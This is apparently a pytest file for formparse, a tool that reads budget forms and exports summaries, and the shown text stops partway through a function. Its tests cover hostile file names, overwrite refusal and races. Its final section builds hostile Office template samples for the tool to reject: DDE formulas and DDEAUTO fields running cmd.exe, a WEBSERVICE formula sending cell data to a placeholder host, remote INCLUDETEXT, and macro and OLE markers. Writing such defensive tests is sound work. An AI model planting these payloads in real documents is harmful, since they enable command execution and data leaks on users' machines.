"""Outputs that survive anything: hostile names and cells, no overwrite, races, clean templates, file-system faults."""

import datetime as dt
import errno
import os
import re
import shutil
import subprocess
import sys
import threading
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import formparse
from formparse import Indicator, Record, Review, atomic
from formparse.batch import discover
from formparse.cli import cli
from formparse.errors import CannotFill, CannotWrite, InvalidValues, shown, unshown
from formparse.export import convert
from formparse.folder import read_folder
from formparse.records import MAX_COUNT, MONEY_DIGITS, MONEY_PLACES, number_problem
from formparse.tables import neutralise
from formparse.writer import template_path
from tests.conftest import ROOT
from tests.outputkit import base_record, filled, gbk_name, hostile_xlsx

FORMATS = [("out.xlsx", "xlsx"), ("out", "parquet"), ("out", "csv")]


def _tables(out: Path, fmt: str) -> dict[str, list[dict]]:
    """Every table of a convert output as rows of plain values (header names as written)."""
    if fmt == "parquet":
        return {t: pq.read_table(out / f"{t}.parquet").to_pylist()
                for t in ("forms", "goals", "indicators", "reviews", "problems")}
    if fmt == "csv":
        import csv

        out_rows = {}
        for t in ("forms", "goals", "indicators", "reviews", "problems"):
            with (out / f"{t}.csv").open(encoding="utf-8-sig", newline="") as fh:
                out_rows[t] = list(csv.DictReader(fh))
        return out_rows
    wb = openpyxl.load_workbook(out, read_only=True)
    result = {}
    for ws in wb.worksheets:
        rows = [tuple(_as_excel_reads(v) for v in r) for r in ws.values]
        result[ws.title] = [dict(zip(rows[0], tuple(r) + (None,) * len(rows[0]), strict=False)) for r in rows[1:]]
    wb.close()
    return result


def _as_excel_reads(value):
    """A cell's text as Excel shows it: openpyxl leaves SpreadsheetML's ``_xHHHH_`` escapes undecoded."""
    if not isinstance(value, str) or "_x" not in value:
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


# -- 1. a batch's output is written whatever one file holds ---------------------------------------------

def test_shown_names_round_trip():
    for raw in ("附件1-某局".encode("gbk") + b".xlsx", b"a\\x41\\\\b\xff.docx", "正常.xlsx".encode(),
                b"\x1a\x7f\\x7f\xef\xbf\xbe.xlsx"):
        name = os.fsdecode(raw)
        assert unshown(shown(name)) == name
        shown(name).encode("utf-8")  # always printable and storable
    assert shown("正常 a\\b.xlsx") == "正常 a\\b.xlsx"  # a UTF-8 name is kept exactly
    # ... unless, as typed, it reads as an escape: else the name shown would find another file
    for name in ("正常\\x41.xlsx", "back\\xe9slash.xlsx", "a\\\\b.xlsx", "\\u4e00.docx"):
        assert unshown(shown(name)) == name and shown(name) != name


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["\\", "\\x4e", "\\u4e00", "x", "e", "0", "正", "\x01", "\udcff", "\ufffe"])
                | st.text(st.characters()), max_size=30).map("".join))
def test_every_name_shown_is_found_again(name):
    text = shown(name)
    assert unshown(text) == name
    text.encode("utf-8")
    if "\\" not in name and name.isprintable():
        assert text == name  # nothing to escape: kept exactly


@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_gbk_name_and_control_characters_never_cost_the_batch(tmp_path, name, fmt):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    gbk = gbk_name(inbox)
    filled(gbk)
    hostile_xlsx(inbox / "ctrl.xlsx", "ctrl")
    rec = base_record()
    rec.unit_name = "另一单位"
    filled(inbox / "good.xlsx", rec)
    out = tmp_path / name
    summary = convert(inbox, out, fmt=fmt, labels="en", workers=0)
    assert (summary.files, summary.good) == (3, 3)
    tables = _tables(out, fmt)
    files = [r["file"] for r in tables["forms"]]
    assert shown(gbk.name) in files
    assert (inbox / unshown(shown(gbk.name))).is_file()  # the name shown finds the file again
    problems = tables["problems"]
    functions = {r["file"]: r["functions"] for r in tables["forms"]}
    if fmt == "xlsx":
        assert functions["ctrl.xlsx"] == "职能概述"
        note = [p for p in problems if p["file"] == "ctrl.xlsx" and p["kind"] == "CharactersChanged"]
        assert len(note) == 1 and "U+0001" in note[0]["message"] and "U+0007" in note[0]["message"]
    else:
        assert functions["ctrl.xlsx"] == "职能\x01概述\x07"  # exact where the format can hold it
        assert not [p for p in problems if p["kind"] == "CharactersChanged"]


@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_text_that_reads_as_an_excel_escape_is_kept_exactly(tmp_path, name, fmt):
    # Excel reads "_xHHHH_" in any cell text as U+HHHH: a unit typed "_x0041_" must not come back "A", nor
    # one typed "_x0001_" as a control character in the summary that removed them
    rec = base_record()
    rec.functions = "职能_x0041_与_x0001_及_x005F_x0042_"
    rec.goals[0] = "目标_xD800__x"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(inbox / "a_x0041_.xlsx", rec)
    back = formparse.read(inbox / "a_x0041_.xlsx")
    assert (back.functions, back.goals[0]) == (rec.functions, rec.goals[0])
    out = tmp_path / name
    assert convert(inbox, out, fmt=fmt, labels="en", workers=0).good == 1
    tables = _tables(out, fmt)
    assert [r["file"] for r in tables["forms"]] == ["a_x0041_.xlsx"]
    assert tables["forms"][0]["functions"] == rec.functions
    assert tables["goals"][0]["text"] == rec.goals[0]
    assert not tables["problems"]


@pytest.mark.slow
def test_a_batch_of_2000_with_bad_files_accounts_for_every_file_in_every_format(tmp_path):
    """2,000 files in nested folders, real worker processes: the bad ones (a control character, 1E+20 staff,
    a GBK name, truncated, empty, a form sent twice) cost only themselves in .xlsx, Parquet and CSV."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    good = filled(tmp_path / "good.xlsx")
    with zipfile.ZipFile(good) as zf:
        parts = [(i.filename, zf.read(i.filename)) for i in zf.infolist()]
    n_good = 1_994
    for k in range(n_good):
        folder = inbox / f"县{k % 7}" / "乡" if k % 3 == 0 else inbox
        folder.mkdir(parents=True, exist_ok=True)
        with zipfile.ZipFile(folder / f"{k:04d}.xlsx", "w", zipfile.ZIP_DEFLATED) as zf:
            for name, data in parts:
                zf.writestr(name, data.replace(base_record().unit_name.encode(), f"单位{k:04d}".encode()))
    hostile_xlsx(inbox / "ctrl.xlsx", "ctrl")
    hostile_xlsx(inbox / "count.xlsx", "count")
    shutil.copyfile(good, gbk_name(inbox))
    (inbox / "trunc.xlsx").write_bytes(good.read_bytes()[:3000])
    (inbox / "empty.docx").write_bytes(b"")
    shutil.copyfile(inbox / "0001.xlsx", inbox / "0001-again.xlsx")
    names = {os.path.relpath(os.path.join(d, f), inbox) for d, _, fs in os.walk(inbox) for f in fs}
    assert len(names) == 2_000
    for name, fmt in FORMATS:
        out = tmp_path / fmt / name
        summary = convert(inbox, out, fmt=fmt, labels="en", workers=2)
        assert summary.files == 2_000
        tables = _tables(out, fmt)
        forms = [r["file"] for r in tables["forms"]]
        problems = {r["file"]: r["kind"] for r in tables["problems"]}
        assert len(forms) == len(set(forms))
        assert {unshown(f) for f in forms} | {unshown(f) for f in problems} == names  # none lost, none made up
        assert len(forms) == n_good + 3  # every good one, ctrl.xlsx, the GBK name, the copy
        assert {problems[k] for k in ("count.xlsx", "trunc.xlsx", "empty.docx")} == {"InvalidValues",
                                                                                   "UnreadableFile"}
        assert "Duplicate" in (problems.get("0001.xlsx"), problems.get("0001-again.xlsx"))  # the later in path order
        assert ("CharactersChanged" == problems.get("ctrl.xlsx")) == (fmt == "xlsx")
        units = {r["unit_name"] for r in tables["forms"]}
        assert {f"单位{k:04d}" for k in range(n_good)} <= units


@pytest.mark.parametrize(("what", "address"), [("count", "C4"), ("tiny", "B8"), ("huge", "B8"), ("digits", "B8")])
def test_numbers_outside_the_domain_are_refused_naming_the_cell(tmp_path, what, address):
    path = hostile_xlsx(tmp_path / f"{what}.xlsx", what)
    with pytest.raises(InvalidValues) as info:
        formparse.read(path)
    assert f"附件1!{address}" in str(info.value)


@pytest.mark.parametrize(("amount", "fmt"), [("100000000000", "0.0000"), ("1.5", "0.0000000"), ("0", "0.00000000")])
def test_zeros_a_number_format_shows_are_not_digits_of_the_amount(tmp_path, amount, fmt):
    # 100000000000 shown as 100000000000.0000 reads as that amount, not as 16 digits out of the domain
    # (found by the structural property: a fill into a copy whose cells are formatted 0.0000)
    import openpyxl
    record = formparse.Record(expenditure=formparse.records.Expenditure(total=Decimal(amount)))
    path = formparse.fill(record, tmp_path / "filled.xlsx")
    wb = openpyxl.load_workbook(path)
    cells = [c for row in wb.active.iter_rows() for c in row if isinstance(c.value, (int, float)) and c.value != 0
             or (amount == "0" and c.value == 0)]
    assert len(cells) == 1
    cells[0].number_format = fmt
    wb.save(tmp_path / "formatted.xlsx")
    assert formparse.read(tmp_path / "formatted.xlsx").expenditure.total == Decimal(amount)


def test_number_bounds():
    assert number_problem("count", MAX_COUNT) is None
    assert number_problem("count", MAX_COUNT + 1)
    assert number_problem("count", -1)
    assert number_problem("money", Decimal("9999999999999.99")) is None
    assert number_problem("money", Decimal("-9999999999999")) is None
    assert number_problem("money", Decimal("1E13"))
    assert number_problem("money", Decimal("1E-7"))
    assert number_problem("money", Decimal("1.5000000"))  # 7 places as written
    assert number_problem("money", Decimal("1E-999999999"))
    assert number_problem("money", Decimal("0.1234567890123456"))  # 16 digits
    assert number_problem("money", Decimal("NaN"))


# Every record read() can give: any text (controls, lone surrogates, formula starts), numbers in the domain.
_any_text = st.none() | st.text(st.characters(), min_size=1, max_size=30)
_money = st.none() | st.builds(lambda n, p: Decimal(n).scaleb(-p),
                               st.integers(-(10**MONEY_DIGITS - 1), 10**MONEY_DIGITS - 1),
                               st.integers(0, MONEY_PLACES)).filter(lambda d: number_problem("money", d) is None) \
    | st.sampled_from([Decimal("0E-6"), Decimal("-0"), Decimal("1E+12"), Decimal("9999999999999")])
_count = st.none() | st.integers(0, MAX_COUNT)
_date = st.none() | st.dates(dt.date(1000, 1, 1), dt.date(9999, 12, 31))
_records = st.builds(
    Record, year=st.none() | st.integers(1000, 9999), unit_name=_any_text, amount_unit=_any_text,
    basic_info=st.builds(formparse.BasicInfo, _count, _count, _any_text, _any_text), functions=_any_text,
    income=st.builds(formparse.Income, *[_money] * 9), expenditure=st.builds(formparse.Expenditure, *[_money] * 3),
    three_public=st.builds(formparse.ThreePublic, *[_money] * 4), goals_intro=_any_text,
    goals=st.lists(st.text(min_size=1, max_size=20), max_size=3),
    indicators=st.lists(st.builds(Indicator, _any_text, _any_text, _any_text, _any_text, _any_text), max_size=3),
    reviews=st.lists(st.builds(Review, st.text(min_size=1, max_size=8), _any_text, _any_text, _any_text, _date),
                     max_size=2),
    filled_by=_any_text, filled_by_phone=_any_text)
_names = st.binary(min_size=1, max_size=12).map(
    lambda b: os.fsdecode(b.replace(b"/", b"_").replace(b"\x00", b"_").lstrip(b".~") or b"x") + ".xlsx")


@settings(max_examples=40, deadline=None)
@given(batch=st.dictionaries(_names, _records, min_size=1, max_size=4))
def test_no_export_format_fails_on_a_record_read_accepts(tmp_path_factory, batch):
    inbox = tmp_path_factory.mktemp("inbox")
    for name in batch:
        (inbox / name).write_bytes(b"")
    by_path = {str(inbox / name): rec for name, rec in batch.items()}
    expected = discover(inbox)
    for name, fmt in FORMATS:
        out = tmp_path_factory.mktemp("out") / name
        summary = convert(inbox, out, fmt=fmt, labels="en", workers=0, reader=by_path.__getitem__)
        tables = _tables(out, fmt)
        assert summary.files == len(expected)
        seen = {r["file"] for r in tables["forms"]}
        # every file accounted for, none lost (a name starting like a formula gets a ' in .csv; .xlsx marks
        # it as text with quotePrefix instead)
        assert seen == {neutralise(shown(f)) if fmt == "csv" else shown(f) for f in expected}
        assert not [p for p in tables["problems"] if p["kind"] == "InternalError"]
        if fmt == "parquet":
            for row in tables["forms"]:
                rec = batch[unshown(row["file"])]  # the name shown gives the file back
                for key in ("unit_name", "functions", "goals_intro"):
                    value = getattr(rec, key)
                    if value is None or not any(0xD800 <= ord(ch) <= 0xDFFF for ch in value):
                        assert row[key] == value  # Parquet keeps the exact text
                assert row["basic_info_staff_quota"] == rec.basic_info.staff_quota
                assert row["income_total"] == rec.income.total


def test_an_unlistable_folder_is_a_problem_row(tmp_path, monkeypatch):
    inbox = tmp_path / "inbox"
    (inbox / "锁住的").mkdir(parents=True)
    filled(inbox / "a.xlsx")
    real = os.scandir

    def scandir(path="."):
        if not isinstance(path, int) and os.fspath(path).endswith("锁住的"):
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
        return real(path)

    monkeypatch.setattr(os, "scandir", scandir)
    batch = read_folder(inbox, workers=0)
    assert [(p.file, p.kind) for p in batch.problems] == [("锁住的/", "UnreadableFolder")]
    assert "没有权限" in batch.problems[0].message
    out = tmp_path / "out.xlsx"
    summary = convert(inbox, out, labels="en", workers=0)
    assert (summary.files, summary.good, summary.broken) == (2, 1, 1)
    assert [r["file"] for r in _tables(out, "xlsx")["problems"]] == ["锁住的/"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs and symbolic links")
@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_every_entry_named_like_a_form_is_accounted_for_and_none_blocks(tmp_path, name, fmt):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(inbox / "good.xlsx")
    os.mkfifo(inbox / "pipe.docx")  # opening it for reading would wait for a writer for ever
    os.symlink("/dev/zero", inbox / "zero.xlsx")  # endless
    os.symlink("loop.xlsx", inbox / "loop.xlsx")
    os.symlink(tmp_path / "gone.docx", inbox / "gone.docx")
    (tmp_path / "elsewhere").mkdir()
    filled(tmp_path / "elsewhere" / "far.xlsx")
    os.symlink(tmp_path / "elsewhere", inbox / "linked")  # a folder behind a link: not followed, but said
    (inbox / "dir.xlsx").mkdir()  # a folder named like a form is a folder
    done: list[object] = []
    worker = threading.Thread(target=lambda: done.append(convert(inbox, tmp_path / name, fmt=fmt, labels="en",
                                                                  workers=0)), daemon=True)
    worker.start()
    worker.join(60)
    assert done, "convert did not finish (blocked on the FIFO?)"
    summary = done[0]
    problems = {r["file"]: r["message"] for r in _tables(tmp_path / name, fmt)["problems"]}
    assert (summary.files, summary.good, summary.broken) == (6, 1, 5)
    assert set(problems) == {"pipe.docx", "zero.xlsx", "loop.xlsx", "gone.docx", "linked/"}
    assert "FIFO" in problems["pipe.docx"] and "设备" in problems["zero.xlsx"] and "符号链接" in problems["linked/"]


# -- 2. never overwrite without --force ------------------------------------------------------------------

def test_convert_refuses_to_write_over_what_it_reads(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    sub = filled(inbox / "0.xlsx")
    before = sub.read_bytes()
    for force in (False, True):
        with pytest.raises(CannotWrite, match="就是要读取的文件"):
            convert(inbox, inbox / "0.xlsx", labels="en", workers=0, overwrite=force)
    with pytest.raises(CannotWrite, match="就是"):
        convert(sub, sub, labels="en", workers=0)
    assert sub.read_bytes() == before and sorted(p.name for p in inbox.iterdir()) == ["0.xlsx"]
    convert(inbox, tmp_path, fmt="parquet", labels="en", workers=0)  # beside the folder read is fine
    convert(sub, inbox / "0-parquet", fmt="parquet", labels="en", workers=0)  # a single file: beside it too
    assert sub.read_bytes() == before
    result = CliRunner().invoke(cli, ["convert", str(inbox), "-o", str(inbox / "0.xlsx"), "--workers", "0", "--force"])
    assert result.exit_code == 1 and "0.xlsx" in result.output and "Traceback" not in result.output
    assert sub.read_bytes() == before


def _read_files(inbox: Path) -> list[str]:
    return read_folder(inbox, workers=0).files


def test_convert_inside_the_inbox_writes_its_summary_and_never_reads_it_back(tmp_path, monkeypatch):
    """``formparse convert . -o 汇总.xlsx`` run in the inbox: the summary is written, stamped as formparse's
    (backends/stamp.py), and no later run reads it (or a Parquet/CSV output) as a submission; a form a
    submitter named 汇总.xlsx is read as any form, and a summary someone saved again is read (and said)."""
    from formparse.backends.stamp import stamped

    inbox = tmp_path / "inbox"
    (inbox / "二科").mkdir(parents=True)
    sub = filled(inbox / "0.xlsx")
    second = base_record(n_goals=1)
    second.unit_name = "邵阳市二科"
    filled(inbox / "二科" / "1.docx", second)
    monkeypatch.chdir(inbox)
    runner = CliRunner()
    first = runner.invoke(cli, ["convert", ".", "-o", "汇总.xlsx", "--workers", "0"])
    assert first.exit_code == 0 and "共 2 个文件：成功 2" in first.output, first.output
    assert stamped(inbox / "汇总.xlsx") == "summary"
    for args in (["-o", "汇总.xlsx", "--force"], ["-o", "二科/汇总2.xlsx"], ["-o", "表", "--format", "csv"],
                 ["-o", "parquet"]):
        again = runner.invoke(cli, ["convert", ".", "--workers", "0", *args])
        assert again.exit_code == 0 and "共 2 个文件：成功 2" in again.output, (args, again.output)
    assert _read_files(inbox) == ["0.xlsx", "二科/1.docx"]
    assert sub.read_bytes() == filled(tmp_path / "same.xlsx").read_bytes()  # (the input untouched)
    # the summary opened and saved again (Excel, WPS, openpyxl write a new zip): read, and said not to be a form
    book = openpyxl.load_workbook(inbox / "汇总.xlsx")
    book.save(inbox / "汇总.xlsx")
    assert stamped(inbox / "汇总.xlsx") is None
    batch = read_folder(inbox, workers=0)
    assert [(p.file, p.kind) for p in batch.problems] == [("汇总.xlsx", "NotThisForm")]
    # a submitter's own form named 汇总.xlsx is a submission
    other = tmp_path / "other"
    other.mkdir()
    filled(other / "汇总.xlsx")
    monkeypatch.chdir(other)
    res = runner.invoke(cli, ["convert", ".", "-o", "汇总-全部.xlsx", "--workers", "0"])
    assert res.exit_code == 0 and "共 1 个文件：成功 1" in res.output, res.output
    assert _read_files(other) == ["汇总.xlsx"]


def test_a_changed_or_foreign_zip_comment_is_no_stamp(tmp_path):
    from formparse.backends.stamp import stamp, stamped

    path = filled(tmp_path / "a.xlsx")
    assert stamped(path) is None
    stamp(path, "highlight")
    assert stamped(path) == "highlight" and formparse.read(path).unit_name == "邵阳市测试局"
    with zipfile.ZipFile(path, "a") as zf:  # a part changed by a tool that keeps the comment
        zf.writestr("docProps/extra.xml", b"<x/>")
    assert stamped(path) is None
    with zipfile.ZipFile(path, "a") as zf:
        zf.comment = b"formparse:summary:00000000"  # written by hand: the digest does not match
    assert stamped(path) is None


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="needs symbolic and hard links")
@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_convert_never_writes_over_an_input_reached_by_a_link(tmp_path, name, fmt):
    # the submission a link in the folder leads to, or a hard link to one, is an input wherever it lies:
    # refused even with --force (os.replace would put the summary where the submission was)
    inbox, elsewhere = tmp_path / "inbox", tmp_path / "elsewhere"
    inbox.mkdir()
    elsewhere.mkdir()
    real = elsewhere / ("real.xlsx" if fmt == "xlsx" else "problems.parquet" if fmt == "parquet" else "problems.csv")
    shutil.copyfile(filled(tmp_path / "form.xlsx"), real)  # a submission, whatever its name says
    (inbox / "link.xlsx").symlink_to(real)
    hard = filled(inbox / "0.xlsx")
    os.link(hard, elsewhere / "hard.xlsx")
    before = real.read_bytes(), hard.read_bytes()
    outs = [elsewhere / "real.xlsx", elsewhere / "hard.xlsx"] if fmt == "xlsx" else [elsewhere]
    for out in outs:
        for force in (False, True):
            with pytest.raises(CannotWrite, match="就是要读取的文件"):
                convert(inbox, out, fmt=fmt, labels="en", workers=0, overwrite=force)
    assert (real.read_bytes(), hard.read_bytes()) == before
    assert os.path.samefile(elsewhere / "hard.xlsx", hard)


@pytest.mark.parametrize(("name", "fmt"), FORMATS)
def test_convert_replaces_an_output_only_when_asked(tmp_path, name, fmt):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(inbox / "a.xlsx")
    out = tmp_path / name
    convert(inbox, out, fmt=fmt, labels="en", workers=0)
    victim = out if fmt == "xlsx" else out / ("problems.parquet" if fmt == "parquet" else "goals.csv")
    if fmt != "xlsx":  # a folder: one of the files it would write is enough to refuse
        for f in out.iterdir():
            if f != victim:
                f.unlink()
    victim.write_bytes(b"mine")
    with pytest.raises(CannotWrite, match="--force"):
        convert(inbox, out, fmt=fmt, labels="en", workers=0)
    assert victim.read_bytes() == b"mine"
    args = ["convert", str(inbox), "-o", str(out), "--workers", "0"] + (["--format", fmt] if fmt != "xlsx" else [])
    assert CliRunner().invoke(cli, args).exit_code == 1
    assert CliRunner().invoke(cli, [*args, "--force"]).exit_code == 0
    assert victim.read_bytes() != b"mine"


def test_publish_never_replaces_a_file(tmp_path):
    dst = tmp_path / "out.bin"
    dst.write_bytes(b"first")
    tmp = tmp_path / "tmp.bin"
    tmp.write_bytes(b"second")
    with pytest.raises(FileExistsError):
        atomic.publish(tmp, dst)
    assert dst.read_bytes() == b"first" and tmp.exists()
    atomic.publish(tmp, dst, overwrite=True)
    assert dst.read_bytes() == b"second" and not tmp.exists()


@pytest.mark.parametrize("way", ["link", "renameat2", "claim"])
def test_every_way_of_publishing_refuses_an_existing_file(tmp_path, monkeypatch, way):
    if way != "link":
        def no_link(*_a, **_k):
            raise OSError(errno.EPERM, "Operation not permitted")

        monkeypatch.setattr(os, "link", no_link)
    if way == "claim":
        monkeypatch.setattr(atomic, "_renameat2", lambda src, dst: False)
    src = tmp_path / "a.tmp"
    src.write_bytes(b"new")
    atomic.publish(src, tmp_path / "fresh")
    assert (tmp_path / "fresh").read_bytes() == b"new" and not src.exists()
    src.write_bytes(b"newer")
    with pytest.raises(FileExistsError):
        atomic.publish(src, tmp_path / "fresh")
    assert (tmp_path / "fresh").read_bytes() == b"new"


@pytest.mark.parametrize("suffix", [".xlsx", ".docx"])
def test_racing_fills_one_wins_none_replaces(tmp_path, suffix):
    out = tmp_path / f"race{suffix}"
    records = []
    for k in range(6):
        rec = base_record()
        rec.unit_name = f"单位{k}"
        records.append(rec)
    start = threading.Barrier(len(records))
    results: list[object] = [None] * len(records)

    def run(k: int) -> None:
        start.wait()
        try:
            formparse.fill(records[k], out)
            results[k] = "ok"
        except CannotFill as exc:
            results[k] = exc

    threads = [threading.Thread(target=run, args=(k,)) for k in range(len(records))]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    winners = [k for k, r in enumerate(results) if r == "ok"]
    assert len(winners) == 1, results
    assert all(isinstance(r, CannotFill) for k, r in enumerate(results) if k != winners[0])
    assert formparse.read(out).unit_name == f"单位{winners[0]}"
    assert sorted(p.name for p in tmp_path.iterdir()) == [out.name]  # no temporary file left behind


def test_racing_processes_one_wins(tmp_path):
    out = tmp_path / "race.xlsx"
    code = ("import sys, formparse; from tests.outputkit import base_record\n"
            "try:\n    formparse.fill(base_record(), sys.argv[1])\nexcept formparse.CannotFill:\n    sys.exit(3)\n")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    procs = [subprocess.Popen([sys.executable, "-c", code, str(out)], env=env, cwd=ROOT) for _ in range(4)]
    codes = sorted(p.wait(120) for p in procs)
    assert codes == [0, 3, 3, 3]
    formparse.read(out)


# -- 3. clean outputs from any template -------------------------------------------------------------------

def _rewrite(src: Path, dst: Path, edit) -> Path:
    with zipfile.ZipFile(src) as zf:
        items = {i.filename: zf.read(i.filename) for i in zf.infolist()}
    edit(items)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in items.items():
            zf.writestr(name, data)
    return dst


def _macro(items):
    items["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 not really"
    items["[Content_Types].xml"] = items["[Content_Types].xml"].replace(
        b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")


def _external_link(items):
    items["xl/externalLinks/externalLink1.xml"] = b'<externalLink xmlns="x"/>'


def _dde_formula(items):
    items["xl/worksheets/sheet1.xml"] = items["xl/worksheets/sheet1.xml"].replace(
        b"</sheetData>", b'<row r="90"><c r="A90"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData>')


def _docx_body(extra: bytes):
    def edit(items):
        if extra.startswith(b"<w:r>"):  # runs go into a paragraph of their own
            extra_p = b"<w:p>" + extra + b"</w:p>"
        else:
            extra_p = extra
        items["word/document.xml"] = items["word/document.xml"].replace(b"</w:body>", extra_p + b"</w:body>")
    return edit


OLE2_BYTES = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def _fld(*code: bytes) -> bytes:
    """A complex field (begin … separate … end) whose instruction is ``code``, each piece a run of its own (a
    piece that is itself a field is nested as it stands)."""
    runs = b"".join(c if c.startswith(b"<w:r><w:fldChar") else b'<w:r><w:instrText xml:space="preserve">' + c +
                    b"</w:instrText></w:r>" for c in code)
    return (b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + b'<w:r><w:fldChar w:fldCharType="separate"/>'
            b'</w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _utf16(items, part, edit):
    edit(items)
    text = items[part].decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    items[part] = b"\xff\xfe" + text.encode("utf-16-le")


def _sheet_xml(items, old, new):
    items["xl/worksheets/sheet1.xml"] = items["xl/worksheets/sheet1.xml"].replace(old, new, 1)


_DDE_SPLIT = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
              b'<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>'
              b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
_HOSTILE_TEMPLATES = {
    "macro.xlsm": (".xlsx", _macro, "宏"),
    "external-link.xlsx": (".xlsx", _external_link, "外部链接"),
    "dde-formula.xlsx": (".xlsx", _dde_formula, "DDE"),
    "ddeauto-split.docx": (".docx", _docx_body(_DDE_SPLIT), "DDEAUTO"),
    "includetext.docx": (".docx", _docx_body(
        b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://x/y.docx&quot; "><w:r><w:t>x</w:t></w:r>'
        b'</w:fldSimple></w:p>'), "INCLUDETEXT"),
    "altchunk.docx": (".docx", _docx_body(b'<w:altChunk r:id="rIdX" xmlns:r="http://schemas.openxmlformats.org/'
                                          b'officeDocument/2006/relationships"/>'), "altChunk"),
    "other-prefix.docx": (".docx", _docx_body(
        b'<q:p xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><q:fldSimple q:instr="DDE a b">'
        b'</q:fldSimple></q:p>'), "DDE"),
    # a field's name split by a nested field (DD{QUOTE ""}EAUTO), or made by one ({{QUOTE 68 68 69 …} …})
    "nested-split.docx": (".docx", _docx_body(_fld(b"DD", _fld(b'QUOTE ""'), b'EAUTO c:\\a "b"')), "DDEAUTO"),
    "computed-name.docx": (".docx", _docx_body(_fld(_fld(b"QUOTE 68 68 69 65 85 84 79"), b' c:\\a "b"')), "嵌套"),
    "database.docx": (".docx", _docx_body(_fld(b' DATABASE \\c "DSN=x" \\s "select 1" ')), "DATABASE"),
    "strict-namespace.docx": (".docx", _docx_body(
        b'<q:p xmlns:q="http://purl.oclc.org/ooxml/wordprocessingml/main"><q:fldSimple q:instr="DDEAUTO a b"/></q:p>'),
        "DDEAUTO"),
    "utf16.docx": (".docx", lambda items: _utf16(items, "word/document.xml", _docx_body(_fld(b" DDEAUTO a b "))),
                   "DDEAUTO"),
    "mail-merge.docx": (".docx", lambda items: items.update({"word/settings.xml": items["word/settings.xml"].replace(
        b"</w:settings>", b'<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge>'
                          b'</w:settings>')}), "邮件合并"),
    "ole-as-picture.docx": (".docx", lambda items: items.update({"word/media/image9.png": OLE2_BYTES}), "OLE"),
    "macro-type.docx": (".docx", lambda items: items.update({
        "[Content_Types].xml": items["[Content_Types].xml"].replace(
            b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")}), "宏"),
    "dde-charref.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</sheetData>",
                         b'<row r="90"><c r="A90"><f>cmd&#124;\' /C calc\'!A0</f></c></row></sheetData>'), "DDE"),
    "dde-validation.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</worksheet>",
                            b'<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>cmd|\'/c calc'
                            b'\'!A0</formula1></dataValidation></dataValidations></worksheet>'), "DDE"),
    "webservice.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</sheetData>", b'<row r="90"><c r="A90" t="str"><f>'
                        b'_xlfn.WEBSERVICE("http://x/?"&amp;B4)</f></c></row></sheetData>'), "WEBSERVICE"),
    "connections.xlsx": (".xlsx", lambda items: items.update({"xl/connections.xml": b'<connections xmlns="http://'
                         b'schemas.openxmlformats.org/spreadsheetml/2006/main"/>'}), "外部数据连接"),
    "macrosheet.xlsx": (".xlsx", lambda items: items.update({"xl/macrosheets/sheet2.xml": b"<xm:macrosheet/>"}),
                        "宏表"),
    # a run of prefixes before the name, and a user-defined function (an add-in's or a macro's code)
    "webservice-prefixes.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</sheetData>", b'<row r="90"><c r="A90" '
                                 b't="str"><f>_xlfn._xlws.WEBSERVICE("http://x/")</f></c></row></sheetData>'),
                                 "WEBSERVICE"),
    "udf.xlsx": (".xlsx", lambda items: _sheet_xml(items, b"</sheetData>", b'<row r="90"><c r="A90" t="str"><f>'
                 b'_xludf.FETCH("http://x/")</f></c></row></sheetData>'), "_XLUDF.FETCH"),
    "quoted-field-name.docx": (".docx", _docx_body(_fld(b' "DDEAUTO" c:\\a "b"')), "DDEAUTO"),
    # an external link's body in a part of any name, whether or not a relationship leads to it
    "dde-link-anywhere.xlsx": (".xlsx", lambda items: items.update({"xl/other/x1.xml": b'<externalLink xmlns="http://'
                               b'schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
                               b'ddeTopic="/c calc"/></externalLink>'}), "外部链接"),
}


@pytest.mark.parametrize("name", sorted(_HOSTILE_TEMPLATES))
def test_templates_carrying_active_content_are_refused(tmp_path, name):
    suffix, edit, words = _HOSTILE_TEMPLATES[name]
